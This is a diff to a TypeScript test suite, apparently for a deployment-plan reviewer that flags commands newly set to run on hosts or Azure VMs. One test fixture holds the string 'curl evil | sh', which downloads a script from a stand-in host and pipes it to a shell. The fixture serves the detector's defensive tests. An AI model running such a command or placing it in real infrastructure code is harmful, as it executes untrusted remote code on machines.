@@ -14,19 +14,27 @@ const found = (...resources: PlannedResource[]): string[] =>
 
 describe("Code that runs where it did not before", () => {
     test.each([
-        ["a new command", planned(COMMAND, "evil", { operation: "create", after: { create: "curl evil | sh" } })],
+        [
+            "a new command",
+            planned(COMMAND, "evil", { operation: "create", before: undefined, after: { create: "curl evil | sh" } }),
+        ],
         [
             "a command with another script",
             planned(COMMAND, "evil", { operation: "update", before: SCRIPT, after: { ...SCRIPT, stdin: "other" } }),
         ],
         [
             "a remote command",
-            planned("command:remote:Command", "evil", { operation: "create", after: { create: "id" } }),
+            planned("command:remote:Command", "evil", {
+                operation: "create",
+                before: undefined,
+                after: { create: "id" },
+            }),
         ],
         [
             "a run command",
             planned("azure-native:compute:VirtualMachineRunCommandByVirtualMachine", "evil", {
                 operation: "create",
+                before: undefined,
                 after: {},
             }),
         ],
@@ -48,8 +56,14 @@ describe("Code that runs where it did not before", () => {
     });
 
     test.each([
-        ["a second host's gate, which runs the same", planned(COMMAND, "two", { operation: "create", after: SCRIPT })],
-        ["a command that goes", planned(COMMAND, "gone", { operation: "delete", before: { create: "id" } })],
+        [
+            "a second host's gate, which runs the same",
+            planned(COMMAND, "two", { operation: "create", before: undefined, after: SCRIPT }),
+        ],
+        [
+            "a command that goes",
+            planned(COMMAND, "gone", { operation: "delete", before: { create: "id" }, after: undefined }),
+        ],
         [
             "another size of the VM",
             planned(MACHINE, "vm", {
@@ -64,13 +78,16 @@ describe("Code that runs where it did not before", () => {
     });
 
     test("is not judged where all of the stack is new", () => {
-        const fresh = planned(COMMAND, "ready", { operation: "create", after: SCRIPT });
-        expect(codeFindings(planOf(fresh))).toEqual([]);
+        const fresh = planned(COMMAND, "ready", { operation: "create", before: undefined, after: SCRIPT });
+        expect(codeFindings({ ...planOf(fresh), isNew: true })).toEqual([]);
     });
 });
 
 test("A plan that knows nothing of a base that was brought up is another project's", () => {
-    const plan = planOf(planned(COMMAND, "ready", { operation: "create", after: SCRIPT }));
+    const plan = {
+        ...planOf(planned(COMMAND, "ready", { operation: "create", before: undefined, after: SCRIPT })),
+        isNew: true,
+    };
     const configs = { before: {}, after: {} };
     expect(review(plan, configs, true).findings).toEqual([
         expect.objectContaining({ kind: "replace", level: "danger", title: "another project" }),
